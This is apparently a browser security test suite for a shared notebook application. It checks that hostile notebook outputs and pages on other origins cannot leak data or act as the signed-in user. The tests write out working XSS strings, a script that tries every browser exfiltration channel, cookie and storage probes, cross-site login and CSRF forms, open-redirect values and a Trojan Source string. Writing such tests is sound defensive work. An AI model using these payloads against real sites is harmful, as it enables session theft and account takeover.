"""Hostile notebooks and outputs in a real browser, with two people: what a stranger's script reaches.

The browser part of the attack list, B1 to B12, and where each is asked:

B1, B2 (foreign origins, fetch modes): `tests/ground/test_gate.py`, `tests/test_every_socket.py`,
`tests/test_every_route.py`; from a page of another port of this machine, here.
B3 (a page of one against another, popup, worker, storage): here. B4 (where sign-in leads): the page has no such word in
its address; here. B5 (hostile words in every field), B6 (opening asks nobody): here and in `test_strangers.py`.
B7 (command links, autofocus, clobbering): here and in `test_strangers.py`. B8 (headers): `tests/ground/test_gate.py`.
B9 (clickjacking): here. B10, B11, B12 (ends of logins, fixation, forced sign-in): `tests/test_every_socket.py`,
`tests/accounts/test_accounts_http.py`, `tests/accounts/test_accounts_service.py`; what a person sees of it, here.
"""

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import nbformat
import pytest
from playwright.sync_api import Browser, Page, expect

from support.browser import signed_in
from support.listening import Ear, ear
from support.server import PASSWORD, Server

pytestmark = [pytest.mark.browser, pytest.mark.sandbox]

ADA, EVE, SAM, MAL = (f"{name}@example.org" for name in ("ada", "eve", "sam", "mal"))

CHANNELS = """<p id=ran></p><script>
const url = '%(url)s', turn = (act) => { try { act() } catch (error) { /* refused at once */ } }
const add = (tag, values, into = document.head) => into.append(Object.assign(document.createElement(tag), values))
turn(() => fetch(url + '/fetch').catch(() => 0)); turn(() => { new Image().src = url + '/image' })
turn(() => navigator.sendBeacon(url + '/beacon')); turn(() => new WebSocket(url.replace('http', 'ws')))
turn(() => new EventSource(url + '/events')); turn(() => new XMLHttpRequest().open('GET', url + '/xhr', false))
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload', 'stylesheet', 'icon'])
  turn(() => add('link', { rel, href: url + '/' + rel }))
turn(() => add('script', { src: url + '/script' })); turn(() => import(url + '/module').catch(() => 0))
turn(() => add('style', { textContent: `@import url(${url}/import); @font-face { font-family: f; src: url(${url}/font) }
  p { background: url(${url}/background); font-family: f }` }))
turn(() => add('iframe', { src: url + '/frame' }, document.body))
turn(() => add('iframe', { srcdoc: `<img src=${url}/srcdoc>` }, document.body))
turn(() => add('object', { data: url + '/object' }, document.body))
turn(() => add('video', { src: url + '/video', poster: url + '/poster', autoplay: true }, document.body))
turn(() => add('meta', { httpEquiv: 'refresh', content: '1;url=' + url + '/refresh' }))
turn(() => window.open(url + '/popup'))
turn(() => { const form = document.createElement('form')
  form.action = url; document.body.append(form); form.submit() })
turn(() => new Worker(URL.createObjectURL(new Blob([`fetch('${url}/worker')`]))))
turn(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: '%(stun)s' }] }); peer.createDataChannel('x')
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)) })
document.getElementById('ran').textContent = 'it ran'
</script>"""
"""Every way out of a document that we know of, and the proof that the script ran."""

REACH = """<p id=tried></p><script>
const tries = {
  page: () => parent.document.title, cookies: () => document.cookie, storage: () => localStorage.length,
  session: () => sessionStorage.length, database: () => indexedDB.open('x'), address: () => top.location.href,
  neighbour: () => [...Array(parent.length)].map((_, at) => parent[at]).filter((one) => one !== window)
    .map((one) => one.document.title)[0] ?? (() => { throw new Error('nobody there') })(),
  worker: () => navigator.serviceWorker.register('/sw.js'), caches: () => caches.keys(),
}
const reached = []
const settled = Object.entries(tries).map(async ([name, reach]) => {
  try { await reach(); reached.push(name) } catch (error) { /* refused */ }
})
settled.push(fetch('/api/v1/me', { credentials: 'include' }).then(() => reached.push('server'), () => 0))
try { top.location.href = '/about-the-output'; } catch (error) { /* refused */ }
const outside = frameElement === null && origin === 'null'
Promise.all(settled).then(() => {
  document.getElementById('tried').textContent = `reached: ${reached.join(' ')}; outside: ${outside}`
})
</script>"""


def display(data: dict[str, Any]) -> Any:
    return nbformat.v4.new_output("display_data", data)


def notebook_of(*outputs: Any) -> dict[str, Any]:
    """A notebook file with one output for each cell `out-0`, `out-1` …"""
    cells = [nbformat.v4.new_code_cell("1", id=f"out-{at}", outputs=[one]) for at, one in enumerate(outputs)]
    return dict(nbformat.v4.new_notebook(cells=cells))


def uploaded(running: Server, token: str, document: dict[str, Any], name: str = "hostile.ipynb") -> str:
    with running.client(token) as api:
        made = api.post("/notebooks", params={"name": name}, json=document).raise_for_status()
    return str(made.json()["id"])


@pytest.fixture(scope="module")
def token(running: Server) -> str:
    return running.add_user(ADA)


@pytest.fixture
def page(running: Server, chromium: Browser, token: str) -> Iterator[Page]:
    page = signed_in(chromium, running.url, ADA, service_workers="allow")
    yield page
    page.context.close()


@pytest.fixture
def listener() -> Iterator[Ear]:
    with ear() as listening:
        yield listening


@contextmanager
def site(body: str) -> Iterator[str]:
    """A page of somebody else on another port: another origin, and the same site."""

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, format: str, *args: Any) -> None:
            """Nobody reads it."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


def test_b6_a_saved_script_runs_at_once_and_speaks_to_nobody(
    running: Server, page: Page, token: str, listener: Ear
) -> None:
    hostile = CHANNELS % {"url": listener.url, "stun": listener.stun}
    leaving = f"<p id=ran>it ran</p><script>location = '{listener.url}/gone'</script>"
    notebook = uploaded(running, token, notebook_of(display({"text/html": hostile}), display({"text/html": leaving})))
    foreign: list[str] = []
    page.context.on("requestfinished", lambda one: foreign.append(one.url))
    page.goto(f"{running.url}/notebooks/{notebook}")
    cell = page.locator('[data-cell-id="out-0"]')

    expect(cell.frame_locator("iframe").locator("#ran")).to_have_text("it ran")
    expect(cell.get_by_text("Nothing was asked")).to_be_visible()
    page.wait_for_timeout(2500)
    assert [url for url in foreign if not url.startswith((running.url, "data:", "blob:"))] == []
    assert listener.heard == []
    assert page.context.pages == [page]


def test_b6_a_closed_frame_that_goes_to_the_open_address_is_shown_nothing_there(
    running: Server, page: Page, token: str, listener: Ear
) -> None:
    escaping = f"<p id=ran>it ran</p><img src='{listener.url}/image'><script>location = '/output.html'</script>"
    notebook = uploaded(running, token, notebook_of(display({"text/html": escaping})))
    with page.expect_response(lambda one: one.url.endswith("/output.html")) as answered:
        page.goto(f"{running.url}/notebooks/{notebook}")
    page.wait_for_timeout(1500)

    # It is not even given that document: for the server the frame is another site.
    assert answered.value.status == 403
    expect(page.locator('[data-cell-id="out-0"]').frame_locator("iframe").locator("#ran")).to_have_count(0)
    assert listener.heard == []


def test_b6_saved_figures_are_drawn_without_a_click_and_the_network_comes_with_one(
    running: Server, page: Page, token: str, listener: Ear
) -> None:
    plotly = display({"application/vnd.plotly.v1+json": {"data": [{"y": [1, 3, 2]}], "layout": {}}})
    points = {
        "data": {"values": [{"a": 1}]},
        "mark": "point",
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    }
    vega = display({"application/vnd.vegalite.v5+json": points})
    asking = display({"text/html": f"<script>0</script><img src='{listener.url}/image'>"})
    notebook = uploaded(running, token, notebook_of(plotly, vega, asking))
    page.goto(f"{running.url}/notebooks/{notebook}")
    frames = [page.locator(f'[data-cell-id="out-{at}"]').frame_locator("iframe") for at in range(3)]

    expect(frames[0].locator(".plotly").first).to_be_visible()
    expect(frames[1].locator("canvas").first).to_be_visible()
    assert listener.heard == []
    page.get_by_role("button", name="Let it use the internet").click()
    with page.expect_request(lambda one: one.url.startswith(listener.url), timeout=20_000):
        pass


def test_b6_a_figure_that_names_plotly_elsewhere_needs_nothing_from_there(
    running: Server, page: Page, token: str
) -> None:
    fetches = '<script type="module">import "https://cdn.plot.ly/plotly-4.1.1.min"</script>'
    draws = "<div id='figure'></div><script>Plotly.newPlot('figure', [{ y: [1, 3, 2] }], {})</script>"
    notebook = uploaded(running, token, notebook_of(display({"text/html": f"<div>{fetches}{draws}</div>"})))
    page.goto(f"{running.url}/notebooks/{notebook}")

    expect(page.frame_locator('[data-cell-id="out-0"] iframe').locator(".plotly").first).to_be_visible()
    expect(page.get_by_role("button", name="Let it use the internet")).to_have_count(0)


@pytest.mark.parametrize("network", ["closed", "open"])
def test_b3_an_output_reaches_neither_page_nor_neighbour_nor_server(
    running: Server, page: Page, token: str, network: str
) -> None:
    if network == "closed":
        notebook = uploaded(running, token, notebook_of(display({"text/html": REACH}), display({"text/html": REACH})))
    else:
        code = f"from IPython.display import HTML, display\ndisplay(HTML({REACH!r}))"
        notebook = running.notebook(token, {"out-0": code, "out-1": code}, name="reach.ipynb")
    page.goto(f"{running.url}/notebooks/{notebook}")
    expect(page.get_by_role("status", name="Save status")).to_have_text("Saved")
    if network == "open":
        page.get_by_role("button", name="Run all").click()

    for at in range(2):
        tried = page.locator(f'[data-cell-id="out-{at}"]').frame_locator("iframe").locator("#tried")
        expect(tried).to_have_text("reached: ; outside: true")
    assert page.url.endswith(notebook)
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") <= 1
    assert str(page.locator("iframe").first.get_attribute("src")).split("#")[0] == (
        "/output.html" if network == "open" else "/output-closed.html"
    )
    running.give_back(token)


WORDS = [
    "<img src=x onerror='window.hostile=1'>",
    "\"><svg onload='window.hostile=2'>",
    "'-window.hostile=3-'",
    "</script><script>window.hostile=4</script>",
    "javascript:window.hostile=5",
    "{{constructor.constructor('window.hostile=6')()}}",
    "[x](javascript:window.hostile=7)",
    "<a href='command:collegium:trash'>x</a><button data-commandlinker-command='trash' autofocus>y</button>",
]
MARKS = [
    "$\\href{javascript:window.hostile=8}{x}$ $\\url{javascript:window.hostile=9}$ $\\htmlData{x=y}{z}$",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.hostile=10'>\"] --> B; "
    'click A "javascript:window.hostile=11"\n```',
    "![x](http://127.0.0.1:9/image) <img src=http://127.0.0.1:9/image> [a]: http://127.0.0.1:9/ref",
]


def hostile_fields() -> dict[str, Any]:
    """Hostile words in every place that a notebook file has."""
    word = WORDS[0] + WORDS[3]
    widget = {"model_id": word, "version_major": 2, "version_minor": 0}
    state = {word: {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "state": {"value": word}}}
    outputs = [
        nbformat.v4.new_output(
            "error", ename=word, evalue=word, traceback=[f"File {word}:1, in f()", f"\x1b[31m{word}"]
        ),
        nbformat.v4.new_output(
            "stream", name="stdout", text=f"\x1b]8;;javascript:window.hostile=12\x07{word}\x1b]8;;\x07"
        ),
        display({"text/plain": word, f"application/{word}": word}),
        display({"application/vnd.jupyter.widget-view+json": widget, "text/plain": word}),
        display(
            {"application/vnd.dataresource+json": {"schema": {"fields": [{"name": word}]}, "data": [{word: word}]}}
        ),
        display({"application/json": {word: word, "__proto__": {"hostile": 1}}}),
        display(
            {
                "application/geo+json": {
                    "type": "Feature",
                    "properties": {"name": word},
                    "geometry": {"type": "Point", "coordinates": [1, 2]},
                }
            }
        ),
        display({"text/csv": f"{word},b\n{word},2", "text/plain": word}),
        display({"text/latex": MARKS[0]}),
        display({"text/markdown": "\n\n".join([*WORDS, *MARKS])}),
        display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hostile=13'>{word}</svg>"}),
        display({"image/png": "javascript:window.hostile=14", "text/plain": word}),
        display({"application/pdf": "PHNjcmlwdD4=", "text/plain": word}),
    ]
    document = notebook_of(*outputs)
    for at, cell in enumerate(document["cells"]):
        cell["metadata"] = {
            "tags": [word],
            "name": word,
            "colab": {"height": word},
            "collapsed": word if at % 2 else False,
        }
        cell["source"] = f"#@title {word}\n#@markdown {WORDS[1]}\nx = '{word}' #@param ['{word}'] {{type:'string'}}"
    document["cells"] += [
        nbformat.v4.new_markdown_cell(f"# {text}\n\n{text}", id=f"text-{at}", attachments={text: {"image/png": text}})
        for at, text in enumerate([*WORDS, *MARKS])
    ]
    document["cells"].append(nbformat.v4.new_markdown_cell("the last", id="last"))
    document["metadata"] = {
        "kernelspec": {"name": "python3", "display_name": word, "language": "python"},
        "language_info": {"name": word, "file_extension": word},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": state}
        },
        "colab": {"name": word, "authorship_tag": word, "toc_visible": True, "collapsed_sections": [word]},
        "title": word,
    }
    return document


def test_b5_b7_hostile_words_in_every_field_are_words_for_two_people(
    running: Server, chromium: Browser, page: Page, token: str
) -> None:
    word = WORDS[0]
    running.command("users", "add", EVE, "--name", word, "--password-stdin", stdin=PASSWORD)
    eve = running.command("tokens", "create", EVE)
    with running.client(eve) as api:
        folder = api.post("/drive/folders", json={"name": f"folder {word}"}).raise_for_status().json()["id"]
        notebook = uploaded(running, eve, hostile_fields(), name=f"{word}.ipynb")
        api.patch(f"/drive/items/{notebook}", json={"parent": folder}).raise_for_status()
        for item in (notebook, folder):
            api.put(f"/drive/items/{item}/grants", json={"email": ADA, "role": "editor"}).raise_for_status()
        comment = {"text": f"{word} {WORDS[6]}", "place": {"cell": "last"}}
        api.post(f"/notebooks/{notebook}/comments", json=comment).raise_for_status()
    foreign: list[str] = []
    page.context.on("request", lambda one: foreign.append(one.url))

    for address in (f"/notebooks/{notebook}", "/drive/shared", f"/drive/{folder}", "/"):
        page.goto(running.url + address)
        if address.startswith("/notebooks"):
            for cell in page.locator("[data-cell-id]").all():
                cell.scroll_into_view_if_needed()
            expect(page.locator('[data-cell-id="last"]')).to_contain_text("the last")
            # Autofocus takes nothing from the page: the focus is where the page put it.
            assert page.evaluate("document.activeElement?.closest('.output, .markdown') ?? null") is None
            page.get_by_role("button", name="1 thread of comments").click()
            expect(page.get_by_text(str(comment["text"]), exact=True).first).to_be_visible()
        else:
            expect(page.get_by_role("button", name="New notebook")).to_be_visible()
        page.wait_for_timeout(1000)
        assert page.evaluate("window.hostile") is None, address
        assert page.evaluate("({}).hostile") is None, address
        assert page.locator("[data-commandlinker-command], a[href^='command:'], a[href^='javascript:']").count() == 0
    assert [url for url in foreign if not url.startswith((running.url, "data:", "blob:"))] == []


def test_b1_b2_a_page_of_another_port_reads_and_changes_nothing(running: Server, page: Page, token: str) -> None:
    notebook = uploaded(running, token, notebook_of())
    attack = f"""<script>
    const base = {json.dumps(running.url)}, results = {{}}
    const note = (name, promise) => promise.catch(() => 'refused').then((value) => {{ results[name] = value }})
    const opened = new Promise((yes, no) => {{
      const socket = new WebSocket(base.replace('http', 'ws') + '/api/v1/notebooks/{notebook}/socket')
      socket.onopen = () => yes('open'); socket.onerror = () => no()
    }})
    window.done = Promise.all([
      note('read', fetch(base + '/api/v1/me', {{ credentials: 'include' }}).then((answer) => answer.text())),
      note('sent', fetch(base + '/api/v1/notebooks',
        {{ method: 'POST', mode: 'no-cors', credentials: 'include', body: '' }}).then((answer) => answer.type)),
      note('socket', opened),
    ]).then(() => results)
    </script>"""
    with site(attack) as url, running.client(token) as api:
        before = len(api.get("/drive/items", params={"folder": "root"}).json()["items"])
        page.goto(url)
        results = page.evaluate("window.done")
        after = len(api.get("/drive/items", params={"folder": "root"}).json()["items"])

    assert results == dict.fromkeys(("read", "sent", "socket"), "refused")
    assert after == before


@pytest.mark.parametrize("address", ["/", "/notebooks/{notebook}", "/output.html", "/output-closed.html"])
def test_b9_nobody_puts_the_page_into_a_frame(running: Server, page: Page, token: str, address: str) -> None:
    notebook = uploaded(running, token, notebook_of())
    framed = running.url + address.format(notebook=notebook)
    with site(f"<iframe src='{framed}'></iframe>") as url:
        page.goto(url)
        page.wait_for_load_state("networkidle")

    assert [one.url for one in page.frames[1:]] == ["chrome-error://chromewebdata/"]


def test_b4_signing_in_leads_nowhere_else(running: Server, chromium: Browser, token: str) -> None:
    page = chromium.new_context().new_page()
    for bad in (
        "//elsewhere.example",
        "https://elsewhere.example",
        "/\\elsewhere.example",
        "javascript:window.hostile=1",
    ):
        page.goto(f"{running.url}/?next={bad}&redirect={bad}#next={bad}")
        page.get_by_role("textbox", name="Email").fill(ADA)
        page.get_by_role("textbox", name="Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("button", name="New notebook")).to_be_visible()

        assert page.url.startswith(running.url + "/")
        assert page.evaluate("window.hostile") is None
        page.context.clear_cookies()
    page.context.close()


def test_b3_a_flood_of_messages_from_an_output_leaves_the_page_alive(running: Server, page: Page, token: str) -> None:
    flood = """<p id=ran>it ran</p><script>
    const hello = 'collegium-output:hello'
    const words = [hello, hello + '-closed', { kind: 'call', method: 'x' }, 'x'.repeat(10000)]
    let sent = 0
    const go = () => { for (let at = 0; at < 500; at += 1) parent.postMessage(words[at % words.length], '*')
      sent += 1; if (sent < 100) setTimeout(go) }
    go()
    </script>"""
    notebook = uploaded(running, token, notebook_of(display({"text/html": flood})))
    page.goto(f"{running.url}/notebooks/{notebook}")
    expect(page.locator('[data-cell-id="out-0"]').frame_locator("iframe").locator("#ran")).to_have_text("it ran")
    source = page.locator('[data-cell-id="out-0"]').get_by_role("textbox", name="Source")
    source.click()
    page.keyboard.press("Control+End")
    page.keyboard.type(" + alive")

    expect(source).to_have_text("1 + alive")
    expect(page.get_by_role("status", name="Save status")).to_have_text("Saved")
    expect(page.locator("iframe")).to_have_count(1)


def test_b5_letters_that_turn_code_around_are_marked(running: Server, page: Page, token: str) -> None:
    document = notebook_of()
    trojan = "access = 'user\u202e \u2066# only admins\u2069 \u2066'"
    many = [nbformat.v4.new_code_cell(f"{at}\n" * 20, id=f"c-{at}") for at in range(60)]
    document["cells"] = [*many, nbformat.v4.new_code_cell(trojan, id="far")]
    notebook = uploaded(running, token, document)
    page.goto(f"{running.url}/notebooks/{notebook}")
    far = page.locator('[data-cell-id="far"]')

    expect(far.locator(".unseen")).to_have_count(4)
    far.scroll_into_view_if_needed()
    far.get_by_role("textbox", name="Source").click()
    expect(far.locator(".cm-specialChar")).to_have_count(4)


def test_b10_a_right_and_a_login_that_end_are_felt_by_pages_that_are_open(
    running: Server, chromium: Browser, token: str
) -> None:
    running.add_user(SAM)
    notebooks = [running.notebook(token, {"a": "'secret'"}, name=name, shared={SAM: "editor"}) for name in ("x", "y")]
    sam = signed_in(chromium, running.url, SAM)
    other = sam.context.new_page()
    other.goto(running.url)
    sam.goto(f"{running.url}/notebooks/{notebooks[0]}")
    expect(sam.get_by_role("status", name="Save status")).to_have_text("Saved")
    with running.client(token) as api:
        api.request("DELETE", f"/drive/items/{notebooks[0]}/grants", json={"email": SAM}).raise_for_status()

    expect(sam.get_by_role("heading", name="There is nothing here")).to_be_visible()
    expect(sam.get_by_text("'secret'")).to_have_count(0)
    sam.goto(f"{running.url}/notebooks/{notebooks[1]}")
    expect(sam.get_by_role("status", name="Save status")).to_have_text("Saved")
    other.get_by_role("button", name="Account").click()
    other.get_by_role("menuitem", name="Sign out").click()
    expect(sam.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    expect(sam.get_by_text("'secret'")).to_have_count(0)
    sam.context.close()


def test_b11_b12_a_page_of_another_port_neither_signs_in_nor_changes_who_is(
    running: Server, page: Page, token: str
) -> None:
    body = f"""<form method=post action={running.url}/api/v1/login enctype=text/plain>
      <input name='{{"email": "{MAL}", "password": "{PASSWORD}", "x": "' value='"}}'></form><p id=tried></p><script>
    document.cookie = 'collegium=planted; path=/'
    fetch('{running.url}/api/v1/login', {{ method: 'POST', mode: 'no-cors', credentials: 'include',
      body: JSON.stringify({{ email: '{MAL}', password: '{PASSWORD}' }}) }}).catch(() => 0).then(() => {{
        document.getElementById('tried').textContent = 'tried' }})
    </script>"""
    running.add_user(MAL)
    stranger = page.context.new_page()
    with site(body) as url:
        stranger.goto(url)
        expect(stranger.locator("#tried")).to_have_text("tried")
        stranger.evaluate("document.forms[0].submit()")
        stranger.wait_for_url(f"{running.url}/**")

    page.goto(running.url)
    assert page.evaluate("fetch('/api/v1/me').then((answer) => answer.json()).then(({ email }) => email)") == ADA
